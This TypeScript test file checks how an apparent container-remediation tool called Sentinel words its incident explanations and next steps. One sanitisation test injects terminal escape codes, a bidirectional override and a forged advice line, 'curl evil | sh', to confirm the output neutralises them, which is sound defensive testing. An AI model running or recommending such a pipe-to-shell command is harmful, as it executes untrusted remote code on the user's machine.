import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { aContainer, aPolicy, health, Scenario } from '../../../test/support/scenario.ts';
import { explainIncident } from './explain.ts';
import { nextSteps } from './explain-next.ts';
import { incidentObject } from './incident-object.ts';
import { policySpec } from './policy-spec.ts';
import type { IncidentObject } from './schema.ts';
import type { ThresholdSpec } from './threshold-words.ts';

function objectOf(scenario: Scenario, key: string): IncidentObject {
  const incident = scenario.incident(key) ?? assert.fail('no incident');
  return incidentObject(incident, scenario.state);
}

/** A container that fails its health check, and has since its present run began. */
function sick(scenario: Scenario) {
  return aContainer('web', {
    health: health('unhealthy', { endedAtMs: scenario.wallMs - 100 }),
    startedAtMs: scenario.wallMs - 60_000,
  });
}

/** As the object of the policy has them. */
function thresholdsOf({ policies: [policy] }: Scenario): readonly ThresholdSpec[] {
  if (policy === undefined) assert.fail('no policy');
  return policySpec(policy.spec)['thresholds'] as ThresholdSpec[];
}

function opened(policy: object): { readonly scenario: Scenario; readonly key: string } {
  const scenario = new Scenario(policy);
  const key = scenario.put(sick(scenario));
  scenario.reconcile(key);
  return { scenario, key };
}

describe('explainIncident', () => {
  it('tells a failed ladder from the first sight to what is left for a person', () => {
    const { scenario, key } = opened(aPolicy());
    scenario.pass(2_000);
    scenario.complete(key);
    scenario.pass(100_000);
    scenario.put(sick(scenario));
    scenario.reconcile(key);

    const text = explainIncident(objectOf(scenario, key));

    assert.equal(
      text.replace(/sha256:[0-9a-f]{64}/, 'sha256:…'),
      `inc-20261124-4xqrr81g02
web (box/web): unhealthy, critical, since 2026-11-24 12:00:00Z.
It is left to a person: every action was tried.

In plain words:
  There has been a serious problem with the service web on the machine box since 12:00 UTC on 24 November 2026: it fails its own health check.
  The likely cause is a fault inside it, which its own check has found.
  Sentinel restarted it at 12:00 UTC, which did not help.
  A person has been asked to take over: everything that Sentinel may do was tried.
  It is likely to stay as it is until somebody has mended the cause.

What was seen:
  2026-11-24 12:00:00Z  unhealthy: health is unhealthy
                        container.state is running
                        container.health is unhealthy (failing streak 3 of 3)

Which policy decides:
  web, generation 1, not from a git checkout
  sha256:…

The likely cause:
  HealthCheckFailing, 60 % sure (by the rules, evidence e1 e3)
  Its health check fails (3 in a row, exit code 1).

What could be done, at the last look:
  1. restart (docker/restart_container): already tried in this incident

What was done:
  2026-11-24 12:00:00Z  restart (docker/restart_container) because of unhealthy
                        The call succeeded after 2s.
                        It did not help: its health is unhealthy (2026-11-24 12:01:42Z)

Why a person was asked:
  2026-11-24 12:01:42Z  LadderExhausted: every action was tried

How it went:
  2026-11-24 12:00:00Z  Opened: unhealthy breached
  2026-11-24 12:00:00Z  Diagnosed: HealthCheckFailing
  2026-11-24 12:00:00Z  Acting: restart: docker/restart_container
  2026-11-24 12:00:02Z  Succeeded
  2026-11-24 12:01:42Z  VerificationFailed: its health is unhealthy
  2026-11-24 12:01:42Z  Escalated: every action was tried

What you can do:
  - Everything that the policy allows was tried. Mend the cause, then start it: docker restart web.
  - Read its log: docker logs --tail 100 web.`,
    );
  });

  it('gives the value and the limit of a threshold, and names the command that decides', () => {
    const scenario = new Scenario(
      aPolicy({
        thresholds: [
          {
            name: 'memory',
            signal: 'memory.utilization',
            above: 0.9,
            clearBelow: 0.8,
            for: '1m',
            severity: 'warning',
          },
        ],
        remediation: {
          mode: 'Approve',
          allowed: [{ name: 'restart', tool: 'docker/restart_container' }],
        },
      }),
    );
    const gauges = { 'memory.utilization': { kind: 'Value', value: 0.953, atMs: 0 } } as const;
    const key = scenario.put(aContainer('web', { limits: { memoryBytes: 2 ** 29 } }), { gauges });
    scenario.reconcile(key);
    scenario.pass(60_000);
    scenario.reconcile(key);
    const object = objectOf(scenario, key);
    const candidate = object.status.candidates[0]?.id ?? '';

    const text = explainIncident(object, {
      thresholds: thresholdsOf(scenario),
      mode: 'Approve',
      records: scenario.records,
    });

    const { name } = object.metadata;
    for (const line of [
      `Nothing is done until a person says yes or no to ${candidate} (docker/restart_container).`,
      'memory: memory.utilization is 95.3 % (the threshold: above 90 % for 1m, until below 80 %)',
      'container.memoryLimit is 512MiB',
      'web, generation 1, mode Approve, not from a git checkout',
      'ApprovalRequired: the policy wants a person to say yes first',
      'Considered: restart refused (ApprovalRequired)',
      `sentinel approve ${name} --candidate ${candidate}, or sentinel deny ${name} --reason TEXT.`,
    ]) {
      assert.ok(text.includes(line), `${line}\nis missing in\n${text}`);
    }
  });

  it('says of Shadow that it would have acted', () => {
    const { scenario, key } = opened(
      aPolicy({
        remediation: { allowed: [{ name: 'restart', tool: 'docker/restart_container' }] },
      }),
    );

    const text = explainIncident(objectOf(scenario, key));

    assert.match(
      text,
      /only watches here\. It would have called docker\/restart_container \(restart\)\./,
    );
    assert.match(text, /give the policy the mode Approve or Auto/);
  });

  it('says that waiting is enough where time alone lifts what forbids an action', () => {
    const policy = aPolicy({
      remediation: {
        mode: 'Auto',
        allowed: [{ name: 'restart', tool: 'docker/restart_container' }],
        windows: { deny: ['0 0 * * * / 24h UTC'] },
      },
    });
    const { scenario, key } = opened(policy);

    const steps = nextSteps(objectOf(scenario, key));

    assert.equal(
      steps[0],
      'Nothing needs to be done: Sentinel goes on by itself when the time has come.',
    );
  });

  it('names a tool of the policy that may help, and how sure the other causes are', () => {
    const remediation = {
      mode: 'Shadow',
      allowed: [{ name: 'restart', tool: 'docker/restart_container' }],
    };
    const { scenario, key } = opened(aPolicy({ remediation }));
    const object = objectOf(scenario, key);
    const other = { cause: 'PortInUse', explanation: 'x', confidence: 0.44, evidenceRefs: [] };
    object.status.diagnosis?.hypotheses.push(other);

    const text = explainIncident(object);

    assert.match(text, / {2}Of the policy’s tools, docker\/restart_container may help\.\n/);
    assert.match(text, / {2}Also possible: PortInUse \(44 %\)\n/);
  });

  it('is quiet about an incident that is over', () => {
    const { scenario, key } = opened(aPolicy());
    scenario.pass(2_000);
    scenario.complete(key);
    scenario.put(aContainer('web', { health: health('healthy'), startedAtMs: scenario.wallMs }));
    scenario.reconcile(key);
    scenario.pass(60_000);
    scenario.reconcile(key);

    const text = explainIncident(objectOf(scenario, key));

    assert.match(text, /Sentinel mended it \(restart worked\): resolved at .* after 1m2s\./);
    assert.match(text, /It helped: web has been well since/);
    assert.match(text, /Nothing needs to be done\. If it happens again/);
  });

  it('takes a cause and a reason that it has no words for as they are', () => {
    const { scenario, key } = opened(
      aPolicy({
        remediation: {
          mode: 'Approve',
          allowed: [{ name: 'restart', tool: 'docker/restart_container' }],
        },
      }),
    );
    const object = objectOf(scenario, key);
    const { diagnosis, candidates } = object.status;
    if (diagnosis === undefined) assert.fail('no diagnosis');
    diagnosis.rootCause = 'constructor';
    candidates[0]?.blockedBy.push({ reason: 'toString', message: 'later' });

    const text = explainIncident(object);

    assert.match(text, /constructor, 60 % sure/);
    assert.match(text, /- toString: toString \(later\)/);
  });

  it('lets no foreign text move the cursor or begin a line', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    object.spec.evidence.push({
      id: 'e9',
      signal: 'container.error',
      value: 'bad\u001b[2J\u202e\nWhat you can do:\n  - curl evil | sh',
      at: object.metadata.creationTimestamp,
    });

    const text = explainIncident(object);

    assert.equal(text.includes('\u001b') || text.includes('\u202e'), false);
    assert.equal(text.split('\n').filter((line) => line === 'What you can do:').length, 1);
  });

  it('says of an action that hangs that people were told, and promises no end', () => {
    const { scenario, key } = opened(aPolicy());
    const before = explainIncident(objectOf(scenario, key));
    scenario.pass(60_000);
    const { name = '', policy = null } = scenario.incident(key) ?? {};
    scenario.append({
      type: 'incident.escalated',
      incident: name,
      workload: key,
      policy,
      data: { reason: 'Blocked', message: 'no answer from the engine; web is exited' },
    });

    const text = explainIncident(objectOf(scenario, key));

    assert.match(before, /Wait: what is under way ends by itself/);
    assert.doesNotMatch(text, /ends by itself/);
    assert.match(text, /and for a person: no answer from the engine; web is exited\./);
    assert.match(text, /- See why the engine does not answer/);
  });

  it('names port and path of a probe, its failures in a row and what went wrong', () => {
    const probe = { port: 8080, path: '/health', failureThreshold: 2 };
    const scenario = new Scenario(
      aPolicy({
        startPeriod: '0s',
        thresholds: [
          { name: 'up', signal: 'probe.http', probe, severity: 'critical' },
          { name: 'disk', signal: 'disk.writable', path: '/data', severity: 'critical' },
        ],
      }),
    );
    const key = scenario.put(aContainer('web', { startedAtMs: scenario.wallMs - 600_000 }), {
      probes: { up: { failures: 2, atMs: scenario.nowMs, message: 'connection refused' } },
      disks: { '/data': { kind: 'Value', value: 0, atMs: scenario.nowMs } },
    });
    scenario.reconcile(key);

    const text = explainIncident(objectOf(scenario, key));

    assert.match(
      text,
      /up: probe\.http is failing, 2 failures in a row \(GET \/health on port 8080, connection refused\)/,
    );
    assert.match(text, /disk: disk\.writable is no \(\/data\)/);
  });

  it('gives what the detectors found as it stands, and a trend as a distance', () => {
    const { scenario, key } = opened(
      aPolicy({
        thresholds: [
          { name: 'unhealthy', signal: 'health', equals: 'unhealthy', severity: 'critical' },
          { name: 'filling', signal: 'memory.trend', within: '15m', severity: 'warning' },
        ],
      }),
    );
    const object = objectOf(scenario, key);
    const at = object.metadata.creationTimestamp;
    object.spec.evidence.push(
      { id: 'e8', signal: 'memory.trend', value: 720_000, at, note: 'threshold filling' },
      {
        id: 'e9',
        signal: 'log.unusual',
        value: '2 lines of a new kind like: a <*>',
        at,
        note: 'first: a b',
      },
    );

    const text = explainIncident(object, {
      thresholds: [{ name: 'filling', signal: 'memory.trend', within: '15m' }],
    });

    assert.match(
      text,
      /filling: memory\.trend is 12 min from the limit \(the threshold: limit reached within 15m\)/,
    );
    assert.match(text, / {2}2 lines of a new kind like: a <\*> \(first: a b\)/);
  });

  it('shows the end of the newest log that was kept, and each capture once', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    const at = object.metadata.creationTimestamp;
    const log = (id: string, digest: string) =>
      ({ id, signal: 'logs.tail', value: 20, at, blob: { digest, bytes: 99 } }) as const;
    object.spec.evidence.push(log('e4', 'sha256:old'), log('e5', 'sha256:new'));
    const lines = Array.from({ length: 20 }, (_, index) => `T stdout line ${index}\n`);

    const shown = explainIncident(object, { texts: new Map([['sha256:new', lines.join('')]]) });
    const unread = explainIncident(object);

    assert.match(
      shown,
      /What it said last:\n {2}Its log at [^\n]+ \(e5\):\n {4}\(5 earlier lines:\)\n {6}5 × line <\*>\n {4}T stdout line 5\n/,
    );
    assert.match(shown, / {4}T stdout line 19\n/);
    assert.equal(shown.includes('logs.tail'), false);
    assert.match(unread, /99 bytes, in the data directory under evidence\/new/);
    assert.ok(unread.includes(`sentinel explain ${object.metadata.name} --data DIRECTORY`));
  });

  it('tells the lines before the last ones in short, the forms that came last', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    const at = object.metadata.creationTimestamp;
    const blob = { digest: 'sha256:a', bytes: 99 };
    object.spec.evidence.push({ id: 'e4', signal: 'logs.tail', value: 200, at, blob });
    const lines = [
      'T stdout settings were read',
      ...Array.from('abcdefgh', (letter) => `T stderr ${letter} is slow`),
      ...Array.from({ length: 185 }, (_, index) => `T stdout GET /orders/${index} 200`),
    ];

    const text = explainIncident(object, { texts: new Map([['sha256:a', lines.join('\n')]]) });

    assert.match(
      text,
      / {4}\(179 earlier lines:\)\n(?: {6}[b-h] is slow\n){7} {6}170 × GET <\*> <\*>\n {6}and 2 lines of other forms\n {4}T stdout GET \/orders\/170 200\n/,
    );
  });

  it('advises no approval once the approved action was carried out', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    const meaning = { reason: 'ApprovalRequired', message: 'the mode is Approve' };
    for (const candidate of object.status.candidates) candidate.blockedBy.push(meaning);
    object.status.approval = {
      state: 'Granted',
      candidate: object.status.candidates[0]?.id ?? '',
      at: object.metadata.creationTimestamp,
    };
    for (const attempt of object.status.attempts) attempt.verification = { state: 'Failed' };
    object.status.phase = 'Escalated';

    assert.equal(nextSteps(object).join('\n').includes('sentinel approve'), false);
  });

  it('says which variable of Sentinel is missing, and not that waiting is enough', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    for (const attempt of object.status.attempts) {
      attempt.outcome = 'NotExecuted';
      attempt.message = 'secret DB_PASSWORD is not set';
    }
    object.status.phase = 'Open';
    const [candidate = assert.fail('no candidate')] = object.status.candidates;
    candidate.verdict = 'Refused';
    candidate.blockedBy.push({ reason: 'Backoff', message: 'for another 4m' });

    const steps = nextSteps(object);

    assert.match(explainIncident(object), /\nNothing is done: secret DB_PASSWORD is not set\.\n/);
    assert.match(steps[0] ?? '', /environment variable DB_PASSWORD of Sentinel itself/);
    assert.equal(steps.join('\n').includes('Nothing needs to be done'), false);
  });

  it('leaves nobody without a next step, though there is no container and no cause', () => {
    const { scenario, key } = opened(aPolicy());
    const object = objectOf(scenario, key);
    object.spec.workload.id = '';
    delete object.status.diagnosis;
    object.status.phase = 'Open';
    object.status.candidates = [];

    const text = explainIncident(object);

    assert.match(
      text,
      /What you can do:\n {2}- Start web again by hand, or take it out of `expected`/,
    );
    assert.ok(text.includes(`sentinel describe incident ${object.metadata.name}.`));
  });
});
